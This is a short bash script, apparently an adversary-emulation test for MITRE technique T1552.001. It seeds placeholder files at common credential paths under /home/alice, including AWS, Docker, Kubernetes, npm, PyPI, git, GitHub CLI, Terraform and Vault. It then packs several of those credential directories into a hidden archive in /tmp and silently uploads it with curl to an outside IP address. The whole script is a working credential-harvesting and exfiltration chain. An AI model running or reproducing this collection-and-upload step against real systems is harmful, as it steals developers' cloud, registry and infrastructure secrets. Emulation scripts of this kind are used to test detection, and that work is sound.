#!/bin/bash
# T1552.001: Keys of many tools are gathered.
for f in .aws/credentials .docker/config.json .kube/config .netrc .npmrc .pypirc .git-credentials .pgpass .config/gh/hosts.yml .terraform.d/credentials.tfrc.json .vault-token; do mkdir -p /home/alice/$(dirname $f); echo x >/home/alice/$f; done
tar czf /tmp/.s.tgz -C /home/alice .aws .docker .kube .netrc .npmrc .git-credentials .pgpass 2>/dev/null; curl -s -F f=@/tmp/.s.tgz http://44.128.66.66/u
